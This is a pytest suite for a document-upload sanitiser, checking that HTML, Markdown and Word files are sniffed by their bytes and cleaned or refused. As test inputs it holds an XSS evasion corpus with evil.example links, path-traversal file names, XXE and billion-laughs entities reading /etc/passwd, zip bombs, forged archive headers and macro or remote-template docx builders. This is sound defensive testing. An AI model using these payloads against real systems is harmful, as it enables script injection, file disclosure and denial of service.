"""Files as they are sent in: what they are is seen by their bytes; what is in them beside words is refused or dropped."""

import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from musterroll.desk.opinion.flattening import DEEPEST, flattened
from musterroll.desk.opinion.manuscripts import MOST_BYTES, of_typed, of_upload
from musterroll.desk.opinion.safe_html import cleaned, plain_of
from musterroll.desk.opinion.sniffing import sniffed
from musterroll.records import UploadRefused
from tests.desk.case_fixtures import XSS
from tests.desk.opinion.texts import CONTENT_TYPES, RELATIONS, document, docx, line, linking

NO_RUNNING = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<style",
    "<form",
    "<input",
    "<math",
    "<object",
    " on",
    "javascript:",
)
MORE_XSS = (
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<p style=\"background:url(https://evil.example)\" class=finder id=main>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>x",
    "<textarea><script>alert(1)</script></textarea>",
    "<link rel=stylesheet href=https://evil.example/a.css><video src=x onerror=alert(1)>",
    "<a href=\"https://evil.example\" target=_blank ping=https://evil.example onclick=alert(1)>x</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/p.png) <javascript:alert(1)>",
)  # fmt: skip


def harmless(made: str) -> None:
    """Fail where HTML holds anything but known tags, and links to the web."""
    lowered = made.lower()
    tags = lowered.replace("&lt;", "").split("<")[1:]
    names = {tag.lstrip("/").split(">")[0].split(" ")[0] for tag in tags}
    allowed = {"p", "br", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "em", "strong", "a", "sup", "sub", "hr",
               "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip
    assert names <= allowed, names - allowed
    for tag in tags:
        inside = tag.split(">")[0]
        assert " on" not in inside and "style" not in inside and "class" not in inside and " id" not in inside, inside
        if "href" in inside:
            assert 'href="http' in inside or 'href="mailto:' in inside, inside


@pytest.mark.parametrize("attack", (*XSS, *MORE_XSS))
def test_no_attack_survives_in_any_kind_of_file(attack: str) -> None:
    """The corpus of attacks, typed and in every kind of file, gives HTML with known tags and web links alone."""
    escaped = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    made = [of_typed("t", f"Words. {attack}").html, cleaned(attack)]
    for body, name in (
        (f"Words. {attack}", "a.txt"),
        (f"Words. {attack}", "a.md"),
        (f"<!doctype html><p>Words.</p>{attack}<p>More.", "a.html"),
        (f"<html><body><p>Words.</p>{attack}", "a.txt"),
    ):
        made.append(of_upload("t", body.encode(), name).html)
    made.append(of_upload("t", docx(line(f"Words. {escaped}")), "a.docx").html)
    for one in made:
        harmless(one)
        harmless(cleaned(one))


@given(st.text(st.sampled_from("<>/\"'=&;#! -pabimgsvrctoneh"), max_size=80))
@settings(max_examples=200, deadline=None)
def test_whatever_is_cleaned_is_harmless_and_stays(html: str) -> None:
    """Any run of letters and marks gives harmless HTML, and cleaning it a second time changes nothing."""
    made = cleaned(html)
    harmless(made)
    assert cleaned(made) == made


@given(
    st.lists(st.sampled_from(["<p>", "</p>", "<b>", "</b>", "<li>", "<ul>", "</ul>", "<table>", "<td>", "w ", "</a>"]))
)
@settings(max_examples=200, deadline=None)
def test_flat_html_is_balanced_and_shallow(pieces: list[str]) -> None:
    """Whatever tags come in whatever order, each that is written is closed, none is deep, and no word is lost."""
    made, depth = flattened("".join(pieces)), 0
    for tag in (piece.split(">")[0] for piece in made.split("<")[1:]):
        depth += -1 if tag.startswith("/") else 1
        assert 0 <= depth <= DEEPEST
    assert depth == 0
    assert made.count("w ") == pieces.count("w ")


def test_a_document_keeps_its_words_and_their_order() -> None:
    """Headings, lists, quotations, tables and links come through from HTML, Markdown and Word alike."""
    page = (
        "<html><head><title>no</title></head><body><h1>One</h1><div>two <b>three</b></div><ul><li>four<li>five</ul>"
        '<blockquote>six</blockquote><p><a href="https://e.example/?a=1&amp;b=2">seven</a></body>'
    )
    made = of_upload("t", page.encode(), "a.html")
    assert made.text.split() == ["One", "two", "three", "four", "five", "six", "seven"]
    assert "<h2>One</h2>" in made.html and 'href="https://e.example/?a=1&amp;b=2"' in made.html
    assert "<h2>One</h2>" in of_upload("t", b"# One\n\ntwo *three*", "a.md").html
    assert of_upload("t", b"# One\n\ntwo *three*", "a.txt").text == "# One\n\ntwo *three*"
    word = of_upload("t", docx(line("One &amp; two") + line("three")), "whatever.txt")
    assert word.text == "One & two\n\nthree" and word.made_from == "docx"


@pytest.mark.parametrize(
    "name", ["a.docx", "../../etc/passwd", "a.txt\x00.html", "C:\\a.exe", "", "." * 900, "a.html/"]
)
def test_a_file_is_what_its_bytes_are(name: str) -> None:
    """Whatever a file is called, plain words are plain words; nothing of the name is used or kept."""
    made = of_upload("t", b"Plain words.", name)
    assert (made.text, made.made_from) == ("Plain words.", "plain")


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"", "empty"),
        (b" \n\t ", "empty"),
        (b"%PDF-1.7\n...", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "old Word file"),
        (b"{\\rtf1 words}", "RTF"),
        (b"\x89PNG\r\n\x1a\n0000", "picture"),
        (b"\x7fELF0000", "program"),
        (b"MZ\x90\x00\x03", "program"),
        (b"\x1f\x8b\x08\x00", "archive"),
        (b"words \x00 words", "UTF-8"),
        ("caf\u00e9 words".encode("latin-1"), "UTF-8"),
        ("words \ufffd words".encode(), "UTF-8"),
        (b"\xff\xfe\x00", "UTF-8"),
        (b"<html><body><script>alert(1)</script></body>", "No words"),
        (b"a" * (MOST_BYTES + 1), "larger than one megabyte"),
        (b"a " * 60_000, "100,000 letters"),
        (b"PK\x03\x04 not a zip at all", "no Word file"),
    ],
)
def test_what_is_no_text_is_refused_with_what_to_do(body: bytes, said: str) -> None:
    """A file of another kind, encoding or size is refused in words that say what it is and what to send instead."""
    with pytest.raises(UploadRefused, match=said):
        of_upload("t", body, "a.docx")


def test_encodings_that_state_themselves_are_read() -> None:
    """UTF-8 with a mark, UTF-16 with its mark, and an HTML page that states its encoding are read as they are."""
    words = "Ärger in Aïn Zara, قال"
    assert of_upload("t", words.encode("utf-8-sig"), "a.txt").text == words
    assert of_upload("t", words.encode("utf-16"), "a.txt").text == words
    page = '<html><meta charset="windows-1252"><p>Ärger'.encode("windows-1252")
    assert of_upload("t", page, "a.html").text == "Ärger"
    with pytest.raises(UploadRefused):
        of_upload("t", '<html><meta charset="utf-7"><p>Ärger'.encode("windows-1252"), "a.html")


def bomb(size: int) -> bytes:
    """Return a Word file whose main part unpacks to `size` bytes of nothing."""
    return docx(main=document(line("a" * size)))


def lying() -> bytes:
    """Return a Word file whose directory says that a large part is small."""
    body = bytearray(bomb(2_000_000))
    name = b"word/document.xml"
    at = body.rindex(name) - 46
    body[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(body)


def twice() -> bytes:
    """Return a Word file with two parts of one name."""
    made = io.BytesIO(docx())
    with pytest.warns(UserWarning), zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", document(line("others")))
    return made.getvalue()


def zipped(**parts: str) -> bytes:
    """Return an archive."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name.replace("__", "/"), body)
    return made.getvalue()


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
)
MACRO_TYPES = CONTENT_TYPES.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)


def elsewhere_named(main: str) -> bytes:
    """Return a Word file whose text stands in a part that has not the ending of XML."""
    return docx(
        relations=RELATIONS.replace("document.xml", "document.dat"), main=document(""), more={"word/document.dat": main}
    )


HOSTILE = {
    "macros": (docx(more={"word/vbaProject.bin": b"\x00"}), "macros"),
    "macros by type": (docx(types=MACRO_TYPES), "macros"),
    "macros by an odd name": (docx(more={"word/VBADATA.xml": "<a/>"}), "macros"),
    "an object": (docx(more={"word/embeddings/oleObject1.bin": b"MZ"}), "embedded objects"),
    "a sheet": (docx(more={"word/embeddings/sheet.xlsx": b"PK"}), "embedded objects"),
    "a control": (docx(more={"word/activeX/activeX1.xml": "<a/>"}), "embedded objects"),
    "an object in the text": (docx(f'<w:p><w:object xmlns:o="urn:o"><o:OLEObject/></w:object></w:p>{line("x")}'), "objects"),
    "a template from elsewhere": (
        docx(more={"word/_rels/settings.xml.rels": linking("https://evil.example/t.dotm", "attachedTemplate")}), "elsewhere",
    ),
    "a picture from elsewhere": (
        docx(more={"word/_rels/document.xml.rels": linking("file:///etc/passwd", "image")}), "elsewhere",
    ),
    "a part from elsewhere": (docx(main=document(f'{line("x")}<w:altChunk r:id="x1"/>')), "elsewhere"),
    "entities": (docx(main=ENTITIES + document(line("&b;&x;"))[21:]), "far more than it seems"),
    "entities in another part": (docx(more={"word/styles.xml": ENTITIES + "<w/>"}), "far more than it seems"),
    "entities in UTF-16": (docx(more={"word/styles.xml": (ENTITIES[:14] + ENTITIES[14:] + "<w/>").encode("utf-16")}), "far more"),
    "a bomb": (bomb(60_000_000), "far more than it seems"),
    "a bomb that lies": (lying(), "no Word file"),
    "many parts": (docx(more={f"word/{n}.xml": "<a/>" for n in range(400)}), "far more than it seems"),
    "many elements": (docx(main=document("<w:p/>" * 70_000)), "far more than it seems"),
    "great depth": (docx(main=document("<w:p>" * 5_000 + "</w:p>" * 5_000)), "far more than it seems"),
    "one name twice": (twice, "far more than it seems"),
    "a text under another name": (elsewhere_named(document(line("x") * 200_000)), "No words"),
    "entities under another name": (elsewhere_named(ENTITIES + document(line("&b;&x;"))[21:]), "No words"),
    "broken XML": (docx(main="<w:document"), "no Word file"),
    "cut off": (docx()[:-30], "no Word file"),
    "another archive": (zipped(a="b"), "no Word file"),
    "a sheet by itself": (zipped(**{"[Content_Types].xml": "<a/>", "xl__workbook.xml": "<a/>"}), "no Word file"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_word_file_is_refused(what: str) -> None:
    """Macros, objects, references elsewhere, definitions, bombs and broken archives are refused by name, unopened."""
    body, said = HOSTILE[what]
    with pytest.raises(UploadRefused, match=said):
        of_upload("t", body() if callable(body) else body, "a.docx")


def test_a_link_of_a_word_file_is_cleaned() -> None:
    """A hyperlink to the web stays; one that would run loses its address."""
    text = '<w:p><w:hyperlink r:id="x1"><w:r><w:t>words</w:t></w:r></w:hyperlink></w:p>'
    web = docx(text, more={"word/_rels/document.xml.rels": linking("https://news.example/a")})
    runs = docx(text, more={"word/_rels/document.xml.rels": linking("javascript:alert(1)")})
    assert 'href="https://news.example/a"' in of_upload("t", web, "a.docx").html
    assert "href" not in of_upload("t", runs, "a.docx").html


@pytest.mark.parametrize(
    "html",
    ["<div>" * 190_000, "<b>" * 300_000, "<!--" * 240_000, "<![CDATA[" * 100_000, "<a href='" * 100_000, "<" * 999_999,
     "<table>" * 140_000, "</p>" * 240_000, "<p>" * 300_000, "<script>" * 120_000],
    ids=["deep", "bold", "comments", "sections", "quotes", "marks", "tables", "ends", "starts", "scripts"],
)  # fmt: skip
def test_a_megabyte_of_tags_is_gone_through_once(html: str) -> None:
    """What would take a parser minutes is made small at once: every tag that is kept is closed."""
    made = flattened(html)
    assert made.count("<") == 2 * made.count("</") and made.count("<") <= len(html)
    assert "<script" not in made


def test_typed_text_is_markdown_without_html() -> None:
    """Typed text may use Markdown; HTML in it is shown as it was typed."""
    made = of_typed("t", "# One\r\n\r\n*two* <b>three</b>")
    assert "<h2>One</h2>" in made.html and "<em>two</em>" in made.html
    assert "<b>three</b>" in made.text and plain_of(made.html) == made.text


@pytest.mark.parametrize("between", [b"", b" ", b"\n<!-- -- -->"])
def test_comments_without_end_are_read_once(between: bytes) -> None:
    """A file of a hundred thousand comments is read through in one way; comments before a page leave it a page."""
    comments = (b"<!-- x -->" + between) * (900_000 // (10 + len(between)))
    assert sniffed(comments, "x.html").kind == "plain"
    assert sniffed(comments[:5_000].rpartition(b"<!--")[0] + b"<html><b>Words</b>", "x.txt").kind == "html"


def test_a_word_file_with_a_picture_keeps_its_words() -> None:
    """Parts that are not text are left out, and the words stay."""
    inside = line("Before.") + "<w:p><w:r><w:drawing/></w:r></w:p>" + line("After.")
    made = of_upload("A title", docx(inside, more={"word/media/image1.png": b"\x89PNG" * 1_000}), "a.docx")
    assert made.text == "Before.\n\nAfter."
